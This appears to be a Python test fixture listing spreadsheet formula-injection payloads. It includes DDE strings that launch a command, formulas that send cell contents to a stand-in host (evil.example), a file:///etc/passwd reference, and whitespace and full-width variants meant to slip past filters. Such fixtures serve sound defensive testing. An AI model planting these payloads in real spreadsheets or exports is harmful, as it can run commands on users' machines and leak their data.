"""A hundred and more texts that spreadsheets have been made to run, and what they are made of."""

_FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "={1;2}", "==1", "=#REF!", "=A1", "='file:///etc/passwd'#$passwd.A1",
    "+1+1", "+cmd|' /C calc'!A0", "+SUM(1,2)", "+44 1632 960001", "-1+1", "-2+3+cmd|' /C calc'!A0", "-SUM(A1)", "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "=", "+", "-",
)  # fmt: skip
_BLANKS = ("", " ", "\t", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028", " \t ")
_WIDE = {"=": "\uff1d", "+": "\uff0b", "-": "\uff0d", "@": "\uff20"}
PAYLOADS = (
    *_FORMULAS,
    *(f"{blank}{formula}" for blank in _BLANKS[1:] for formula in _FORMULAS[::3]),
    *(f"{_WIDE[formula[0]]}{formula[1:]}" for formula in _FORMULAS[::5]),
    *("'=1+1", "''=1", "#REF!", "#N/A", "#NAME?", 'x",=1+1', 'x"\n=1+1', "x;=1+1", "x\n=1+1", "TRUE", "1e5", "00123"),
    *("_x003D_1+1", "2026-11-23", "http://evil.example", "[x]", "{=1}", "<f>1+1</f>", "&#61;1", "\x01=1", "%"),
)
